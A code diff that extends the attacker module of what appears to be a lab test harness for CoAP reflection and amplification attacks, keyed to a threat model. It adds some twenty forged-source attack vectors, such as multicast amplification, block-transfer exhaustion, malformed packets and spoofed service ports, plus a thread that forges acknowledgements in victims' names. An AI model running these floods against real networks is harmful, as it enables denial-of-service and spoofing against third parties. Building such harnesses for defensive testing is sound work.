@@ -9,6 +9,7 @@ each time toward addresses that were never used before.
 Numbers of the vectors (AV-..) are those of docs/threat-model.md.
 """
 
+import ipaddress
 import socket
 import threading
 import time
@@ -30,11 +31,14 @@ Sent = namedtuple("Sent", "time length")
 
 
 class Vector:
-    """One attack: `shots` are forged, `own` is sent as the attacker itself."""
+    """One attack: `shots` are forged, `own` is sent as the attacker itself. acked:
+    each CON toward a victim is acknowledged in its name, by the Message ID that its
+    server used. inside: the victim is the inside server that is sent to."""
 
-    def __init__(self, number, title, shots, start, victims=1, own=()):
+    def __init__(self, number, title, shots, start, victims=1, own=(), acked=False, inside=False):
         self.number, self.title, self.start = number, title, start
         self.shots, self.victims, self.own = shots, victims, own
+        self.acked, self.inside = acked, inside
 
     def addresses(self, index, phase, family):
         """Forged addresses: a network of its own per vector and phase, so that
@@ -98,6 +102,82 @@ def vectors():
     ]
 
 
+def _block1(i, num=0, more=True, szx=0, size=16, size1=None):
+    """PUT of one block on a resource of its own."""
+    opts = coap.path(f"/b{i % 26}") + [(coap.OPT_BLOCK1, coap.uint(num << 4 | (8 if more else 0) | szx))]
+    if size1 is not None:
+        opts.append((coap.OPT_SIZE1, coap.uint(size1)))
+    return coap.message(coap.CON, coap.PUT, 0x2000 + i, b"b", opts, b"x" * size)
+
+
+def more_vectors():
+    """Those that --all adds: slower, or against servers that libcoap is not."""
+    spread = lambda i: 42000 + i
+    odd, link = wiring.SERVER_ODD, lambda i: coap.path("/.well-known/core")
+    links = b"</s>;rt=t"
+    answer = lambda i: coap.message(coap.NON, coap.CODE_CONTENT, 0x3000 + i, b"%03d" % (i % 999), (), BODY)
+    return [
+        Vector("AV-15", "Acknowledged in the victim's name", start=0, acked=True,
+               shots=_train(3, 1, _observe("/time"), port=spread)),
+        Vector("AV-14", "Attributes that ask for ten a second", start=1,
+               shots=_train(2, 1, _observe("/t", lambda i: [(coap.OPT_URI_QUERY, b"c.pmax=0.1")]),
+                            server=odd)),
+        Vector("AV-36", "Simple registration", start=2,
+               shots=_train(4, 1, lambda i: coap.message(
+                   coap.CON, coap.POST, 0x4000 + i, b"r", coap.path("/.well-known/rd")
+                   + [(coap.OPT_URI_QUERY, b"ep=v%d" % i), (coap.OPT_URI_QUERY, b"lt=30")]),
+                            port=spread, server=odd)),
+        Vector("AV-27", "Q-Block2", start=6,
+               shots=_train(4, 2, _get("/q", token=lambda i: b"%c" % (65 + i), extra=lambda i: [
+                   (coap.OPT_Q_BLOCK2, b"\x0e")]), server=odd)),
+        Vector("AV-43", "Answers in fragments", start=9,
+               shots=_train(20, 10, _get("/whole"), server=odd)),
+        Vector("AV-18", "Large notifications", start=11,
+               shots=_train(4, 4, _observe("/m2", lambda i: [(coap.OPT_BLOCK2, b"\x06")]), port=spread),
+               own=[(3.0, "/m2", BODY)]),
+        Vector("AV-19", "Multicast", start=13,
+               shots=_train(50, 10, _get("/.well-known/core"), server=wiring.GROUP)),
+        Vector("AV-22", "Multicast with No-Response: 0", start=16,
+               shots=_train(50, 10, _get("/nope", token=lambda i: b"n",
+                                         extra=lambda i: [(coap.OPT_NO_RESPONSE, b"")]),
+                            server=wiring.GROUP)),
+        Vector("AV-04", "Names planted in the listing, NON", start=20,
+               shots=_train(100, 20, _get("/.well-known/core"))),
+        Vector("AV-05", "FETCH", start=24,
+               shots=_train(100, 20, lambda i: coap.message(
+                   coap.NON, coap.FETCH, 0x5000 + i, b"f", link(i)))),
+        Vector("AV-09", "Malformed messages", start=28,
+               shots=_train(100, 20, lambda i: bytes([0x49, 1, i >> 8, i & 255]) + b"a" * 9)),
+        Vector("AV-11", "Extended tokens", start=31,
+               shots=_train(50, 20, lambda i: bytes([0x4d, 1, 0x50, i, 27]) + b"t" * 40)),
+        Vector("AV-29", "Uploads begun", start=34,
+               shots=_train(100, 20, _block1, port=spread)),
+        Vector("AV-30", "Blocks out of order", start=37,
+               shots=_train(100, 20, lambda i: _block1(i, num=0xFFFFF, more=False, szx=6, size=1))),
+        Vector("AV-31", "4 GiB announced", start=40,
+               shots=_train(100, 20, lambda i: _block1(i, size1=0xFFFFFFFF))),
+        Vector("AV-32", "Blocks in no order", start=43,
+               shots=_train(100, 20, _get("/m2", extra=lambda i: [
+                   (coap.OPT_BLOCK2, coap.uint((i * 61 % 62) << 4 | 2))]))),
+        Vector("AV-35", "Registrations", start=46,
+               shots=_train(100, 20, lambda i: coap.message(
+                   coap.CON, coap.POST, 0x6000 + i, b"r", coap.path("/rd")
+                   + [(coap.OPT_URI_QUERY, b"ep=n%d" % i)], links), server=wiring.SERVER_RD)),
+        Vector("AV-38", "Forward proxy", start=49,
+               shots=_train(20, 5, lambda i: coap.message(
+                   coap.NON, coap.GET, 0x7000 + i, b"p", [(coap.OPT_PROXY_URI, b"coap://192.0.2.1/time")]),
+                            server=wiring.SERVER_PROXY)),
+        Vector("AV-40", "From the ports of other services", start=54,
+               shots=_train(100, 20, _get("/m"), port=lambda i: (7, 19, 53, 123, 1900)[i % 5])),
+        Vector("AV-42", "Answers at a server of ours", start=58, inside=True,
+               shots=_train(100, 20, answer, port=lambda i: coap.PORT, victim=lambda i: i % 8), victims=8),
+        Vector("AV-44", "A source of its own for each request", start=62, victims=100,
+               shots=_train(100, 20, _get("/m"), victim=lambda i: i)),
+        Vector("AV-47", "Neither CoAP nor meant to be", start=66,
+               shots=_train(100, 20, lambda i: bytes([0x45, 0x78, i >> 8, i & 255]) + bytes(range(24)))),
+    ]
+
+
 def plant(lab, family):
     """Everything the attacker prepares, as itself. Returns what succeeded."""
     own = Peer(lab, "attacker", family)
@@ -109,6 +189,42 @@ def plant(lab, family):
         return done
     finally:
         own.close()
+
+
+def hardware(address):
+    """Where a frame to an address goes: groups have hardware addresses of their own."""
+    packed = ipaddress.ip_address(address).packed
+    if packed[0] == 0xFF:
+        return "33:33:" + ":".join(f"{b:02x}" for b in packed[12:])
+    if len(packed) == 4 and packed[0] >> 4 == 14:
+        return "01:00:5e:" + ":".join(f"{b:02x}" for b in (packed[1] & 127, *packed[2:]))
+    return wiring.MAC["inside"]
+
+
+class Guesser(threading.Thread):
+    """Acknowledges in the victims' names, by the Message IDs that their server used
+    (read off the inside link): the best guess there is."""
+
+    def __init__(self, attacker, capture, addresses, key, until):
+        super().__init__(daemon=True)
+        self.attacker, self.capture, self.key, self.until = attacker, capture, key, until
+        self.addresses, self.done = set(addresses), set()
+
+    def run(self):
+        while time.monotonic() < self.until:
+            for record in self.capture.records(way="out"):
+                packet = record.packet
+                if packet.dst in self.addresses and coap.kind_of(packet.data) == coap.CON \
+                        and (packet.dport, packet.data[2:4]) not in self.done:
+                    self.done.add((packet.dport, packet.data[2:4]))
+                    self._acknowledge(packet)
+            time.sleep(0.05)
+
+    def _acknowledge(self, packet):
+        frame = packets.udp_frame(wiring.MAC["attacker"], wiring.MAC["inside"], packet.dst, packet.src,
+                                  packet.dport, packet.sport, b"\x60\x00" + packet.data[2:4])
+        self.attacker.sent[self.key].append(Sent(time.time(), len(frame) - 14))
+        self.attacker.sock.send(frame)
 
 
 class Attacker:
@@ -136,17 +252,23 @@ class Attacker:
                 addresses = vector.addresses(index, phase, family)
                 for shot in vector.shots:
                     frame = packets.udp_frame(
-                        wiring.MAC["attacker"], wiring.MAC["inside"], addresses[shot.victim],
+                        wiring.MAC["attacker"], hardware(shot.server[family]), addresses[shot.victim],
                         shot.server[family], shot.port, coap.PORT, shot.data)
                     plan.append((vector.start + shot.at, key, frame))
                 plan += [(vector.start + at, key, (path, body)) for at, path, body in vector.own]
         return sorted(plan, key=lambda step: step[0])
 
-    def run(self, chosen, phase, families):
-        """Run the schedule; returns when the last frame has left."""
-        helpers = []
+    def run(self, chosen, phase, families, inside=None, watch=0.0):
+        """Run the schedule; returns when the last frame has left. Guessers read
+        the inside capture and go on for `watch` seconds."""
+        plan, helpers = self._plan(chosen, phase, families), []
+        for index, vector in chosen:
+            for family in families:
+                if vector.acked:
+                    Guesser(self, inside, vector.addresses(index, phase, family), (vector.number, family),
+                            time.monotonic() + watch).start()
         began = time.monotonic()
-        for at, key, step in self._plan(chosen, phase, families):
+        for at, key, step in plan:
             time.sleep(max(0.0, began + at - time.monotonic()))
             if isinstance(step, bytes):
                 self.sent[key].append(Sent(time.time(), len(step) - 14))
